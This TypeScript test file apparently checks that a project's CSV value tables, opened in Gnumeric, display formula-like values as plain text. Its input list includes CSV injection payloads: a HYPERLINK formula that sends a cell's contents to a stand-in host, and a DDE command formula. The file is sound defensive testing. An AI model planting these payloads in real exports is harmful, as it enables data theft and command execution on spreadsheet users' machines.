/** The reading of our CSV tables by a spreadsheet, Gnumeric: the values of the cells after everything was calculated. */
import { readFileSync, writeFileSync } from "node:fs";
import * as path from "node:path";
import { parse } from "csv-parse/sync";
import { valueTable } from "../../lib/parts/configuration/value-tables";
import { hostileTexts } from "../support/hostile-texts";
import { run } from "../vpn/process";
import { expectThat, type Report } from "../vpn/report";

/** Texts that a spreadsheet runs, and some that only look like it. */
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1;1)",
  '=HYPERLINK("http://192.0.2.66/?"&A1)',
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "a=1+1",
  'postgres://u@h/d?a="b",c',
];
/**
 * What a cell can have as it is: a NUL ends the text, every line break becomes the spreadsheet's own, and what is a number is
 * one, and shown as one.
 */
const readable = (text: string): boolean => !/[\0\r]/.test(text) && Number.isNaN(Number(text));

/** Has the spreadsheet read the tables with a hostile text in every column that has one. */
export async function readBySpreadsheet(report: Report, folder: string): Promise<void> {
  const cells = (csv: string): string[][] => {
    const [given, shown] = [path.join(folder, "given.csv"), path.join(folder, "shown.csv")];
    writeFileSync(given, csv);
    run(["ssconvert", "--import-type=Gnumeric_stf:stf_csvtab", "--export-type=Gnumeric_stf:stf_csv", given, shown], {
      timeoutMs: 60_000,
    });
    return parse(readFileSync(shown, "utf8"), { relaxColumnCount: true });
  };
  const texts = [...FORMULAS, ...hostileTexts].filter(readable);
  await report.check("Gnumeric", "shows the text of every value, and calculates none", () => {
    const environmentVariables = texts.map((text, index) => ({
      name: `V${String(index).padStart(3, "0")}`,
      source: text,
      target: `new ${text}`,
      parameter: { name: `/v/${index}` },
    }));
    const table = valueTable({ environmentVariables } as unknown as Parameters<typeof valueTable>[0], "prepare");
    const shown = new Map(cells(table).map(([, name = "", old = "", next = ""]) => [name, { old, next }]));
    const faults = environmentVariables.flatMap(({ name, source, target }) => {
      const cell = shown.get(name);
      return [
        ...(cell?.old === source ? [] : [`${JSON.stringify(source)} is shown as ${JSON.stringify(cell?.old)}`]),
        ...(cell?.next === target ? [] : [`${JSON.stringify(target)} is shown as ${JSON.stringify(cell?.next)}`]),
      ];
    });
    expectThat(faults.length === 0, faults.join("\n"));
    return `${texts.length} texts in two columns`;
  });
  await report.check("Gnumeric", "would calculate a formula that is written as it is", () => {
    const [[shown] = []] = cells("=1+1,a\r\n");
    expectThat(shown === "2", `it shows ${String(shown)}`);
    return "=1+1 is 2";
  });
}
